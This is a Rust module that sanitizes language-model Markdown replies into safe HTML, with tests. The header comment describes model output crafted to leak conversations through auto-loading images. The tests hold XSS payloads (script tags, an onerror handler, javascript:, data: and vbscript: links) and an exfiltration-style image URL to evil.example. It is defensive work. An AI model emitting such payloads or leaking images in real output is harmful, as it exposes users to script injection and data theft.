//! Model output to HTML that is safe to insert into the page.
//!
//! Models write Markdown, and their output is untrusted: it may contain HTML, scripts, or
//! links and images crafted to leak the conversation. Rendering therefore:
//! * turns every raw HTML block or inline tag into visible text (it is escaped, never parsed),
//! * keeps links only for `http`, `https` and `mailto` destinations (others become plain text),
//! * shows images as links instead of loading them, so a reply cannot make the browser fetch
//!   a URL on its own (the classic Markdown-image exfiltration).
//!
//! The same function runs on the server (SSR) and in the browser (while a reply streams),
//! so both render identical HTML.

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

pub fn render_markdown(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut dropped_link = false;
    let events = Parser::new_ext(text, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        })
        | Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            if is_safe_url(&dest_url) {
                dropped_link = false;
                Event::Start(Tag::Link {
                    link_type,
                    dest_url,
                    title,
                    id,
                })
            } else {
                dropped_link = true;
                Event::Text(CowStr::Borrowed(""))
            }
        }
        Event::End(TagEnd::Link) | Event::End(TagEnd::Image) => {
            if dropped_link {
                dropped_link = false;
                Event::Text(CowStr::Borrowed(""))
            } else {
                Event::End(TagEnd::Link)
            }
        }
        other => other,
    });
    let mut out = String::with_capacity(text.len() + text.len() / 2);
    html::push_html(&mut out, events);
    out
}

fn is_safe_url(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_the_common_markdown_of_replies() {
        let html = render_markdown(
            "Para **bold**\n\n- one\n- two\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)",
        );
        for needle in [
            "<p>Para <strong>bold</strong></p>",
            "<li>one</li>",
            "<code class=\"language-rust\">fn main() {}",
            "<table>",
            "<td>1</td>",
            "<a href=\"https://example.com\">site</a>",
        ] {
            assert!(html.contains(needle), "{needle} missing from {html}");
        }
    }

    #[test]
    fn raw_html_is_shown_as_text_never_inserted() {
        let html = render_markdown("<script>alert(1)</script>\n\nhi <img src=x onerror=alert(1)>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }

    #[test]
    fn dangerous_links_lose_their_link() {
        for md in [
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x]( javascript:alert(1))",
            "[x](data:text/html,<b>)",
            "[x](vbscript:msgbox)",
        ] {
            let html = render_markdown(md);
            assert!(!html.contains("<a"), "{md} -> {html}");
            assert!(html.contains('x'), "{md} -> {html}");
        }
    }

    #[test]
    fn images_become_links_and_are_never_loaded() {
        let html = render_markdown("![secret](https://evil.example/?q=data)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("<a href=\"https://evil.example/?q=data\">secret</a>"),
            "{html}"
        );
        let html = render_markdown("![x](javascript:alert(1))");
        assert!(!html.contains("<a") && !html.contains("<img"), "{html}");
    }

    #[test]
    fn attribute_breaking_urls_are_escaped() {
        let html = render_markdown("[x](https://a.example/\"onmouseover=alert(1))");
        assert!(!html.contains("\"onmouseover"), "{html}");
    }
}
